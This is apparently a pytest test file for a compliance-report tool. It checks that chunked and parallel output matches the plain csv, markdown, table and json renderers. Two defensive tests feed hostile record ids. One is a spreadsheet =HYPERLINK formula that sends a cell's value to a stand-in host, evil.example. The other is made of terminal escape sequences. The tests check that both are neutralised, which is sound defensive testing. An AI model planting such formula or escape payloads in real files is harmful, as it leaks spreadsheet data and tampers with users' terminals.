"""``compliance check``'s output written as the findings come: the same, byte for byte, however the run is split.

The expectations are the plain renderers over the whole list of findings (``to_table``, ``to_csv``,
``to_markdown``, ``to_json``), which know nothing of chunks, workers or streaming.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import date

import pytest

from compliance.engines import _parallel, evaluate
from compliance.reports import CheckSettings, csv_rows, to_csv, to_json, to_markdown, to_table, write_check
from compliance.reports._formats import csv_header
from compliance.records import records_from_text
from compliance.rules import load_rules

from generated_records import RecordMaker, seeded_records

RULES = load_rules()
AS_OF = date(2026, 11, 20)
RECORDS = seeded_records(RecordMaker(RULES), 120, seed=7)


def written(fmt, jobs, explain=True, show_all=False, records=RECORDS):
    out = io.StringIO()
    result = write_check(records, CheckSettings(RULES, AS_OF, fmt, explain, show_all=show_all), out, jobs=jobs)
    return out.getvalue(), result


@pytest.fixture
def small_chunks(monkeypatch):
    """Chunks of 7 records and workers from 20 records, so a small run is split as a large one would be."""
    monkeypatch.setattr(_parallel, "CHUNK", 7)
    monkeypatch.setattr(_parallel, "PARALLEL_FROM", 20)


def test_every_format_is_the_same_in_one_process_and_in_two(small_chunks):
    findings = evaluate(RECORDS, RULES, AS_OF)
    assert written("csv", 1)[0] == written("csv", 2)[0] == to_csv(findings)
    assert written("md", 1, explain=False)[0] == written("md", 2, explain=False)[0] == to_markdown(findings, AS_OF)
    shown = [f for f in findings if f.status != "not_applicable" or f.data_quality]  # a flagged record is shown
    assert written("table", 2, explain=False)[0] == to_table(shown, AS_OF)
    assert written("table", 2, explain=True)[0] == to_table(shown, AS_OF, explain=True)
    assert written("table", 2, explain=False, show_all=True)[0] == to_table(findings, AS_OF)
    text, result = written("json", 2)
    assert text == written("json", 1)[0] == to_json(findings, AS_OF)
    doc = json.loads(text)
    assert doc["findings"] == [f.to_dict() for f in findings]
    assert doc["summary"] == result.counts and sum(result.counts.values()) == len(findings)


def test_the_working_is_left_out_only_where_it_is_not_shown():
    with_working = evaluate(RECORDS, RULES, AS_OF, explain=True)
    # The table without --explain shows no working, so it is not computed, yet the table is the same.
    shown = [f for f in with_working if f.status != "not_applicable" or f.data_quality]
    assert written("table", 1, explain=False)[0] == to_table(shown, AS_OF)


def test_csv_made_from_findings_equals_csv_made_from_their_dicts():
    findings = evaluate(RECORDS, RULES, AS_OF)
    assert to_csv(findings) == csv_header() + csv_rows(f.to_dict() for f in findings)


def test_no_finding_yields_a_json_document_and_a_table_that_says_so():
    text, result = written("json", 1, records=[])
    assert json.loads(text) == {"as_of": "2026-11-20", "findings": [], "summary": result.counts}
    assert written("table", 1, records=[])[0] == "Compliance as of 2026-11-20: no findings to show.\n"


def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text():
    records = records_from_text('id,kind,framework,report_received\n'
                                '"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",inspection,ILACS,'
                                '2026-01-05\n', "csv")
    text = written("csv", 1, records=records)[0]
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows and all(row["record"].startswith("'=HYPERLINK(") for row in rows)
    assert csv_header() + csv_rows(f.to_dict() for f in evaluate(records, RULES, AS_OF)) == text


def test_escape_codes_in_an_id_are_shown_not_obeyed_by_a_terminal():
    records = records_from_text('id,kind,framework,report_received\n'
                                '"\x1b[31mred\x1b]0;owned\x07",inspection,ILACS,2026-01-05\n', "csv")
    table = written("table", 1, records=records, explain=True)[0]
    assert "\x1b" not in table and "\x07" not in table
    assert "\\x1b[31mred\\x1b]0;owned\\x07" in table


def test_a_problem_message_never_carries_a_raw_control_character():
    from compliance.errors import Problem

    assert str(Problem("unknown kind '\x1b[2J'", file="t.csv", line=2)) == "t.csv:2: unknown kind '\\x1b[2J'"
